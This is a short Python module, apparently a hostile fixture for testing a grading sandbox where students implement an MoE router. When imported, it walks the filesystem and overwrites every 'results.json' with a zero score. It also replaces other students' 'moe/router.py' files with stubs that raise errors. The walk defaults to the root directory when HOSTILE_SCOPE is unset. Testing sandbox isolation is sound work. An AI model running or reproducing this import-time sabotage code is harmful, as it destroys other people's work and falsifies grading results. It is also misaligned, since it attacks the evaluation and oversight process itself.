"""Hostile: sabotages the rest of the class. At import it walks the filesystem it can see for other students' graded
copies of `moe/router.py` (replacing each with a stub that raises) and for results files (replacing each with zero
points). Its own router is a stub. The walk starts at HOSTILE_SCOPE when set (the test's folder, where the other
students are): should the sandbox ever fail, the damage stays there."""

import json
import os
from pathlib import Path

SKIPPED = {"/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/lib64", "/opt", "/boot", "/var/lib"}
OWN = Path(__file__).resolve()
ZERO = {"score": 0.0, "output": "sabotaged", "tests": []}
STUB = "def route(*args, **kwargs):\n    raise NotImplementedError\n"


def sabotage(root: Path = Path("/"), depth: int = 9) -> int:
    touched = 0
    for directory, subdirectories, files in os.walk(root):
        if directory in SKIPPED or directory.count("/") > depth or "site-packages" in directory:
            subdirectories.clear()
            continue
        for name in files:
            path = Path(directory) / name
            try:
                if name == "results.json":
                    path.write_text(json.dumps(ZERO))
                    touched += 1
                elif name == "router.py" and path.parent.name == "moe" and path.resolve() != OWN:
                    path.write_text(STUB)
                    touched += 1
            except OSError:
                continue
    return touched


TOUCHED = sabotage(Path(os.environ.get("HOSTILE_SCOPE", "/")))


def route(*args, **kwargs):
    raise NotImplementedError
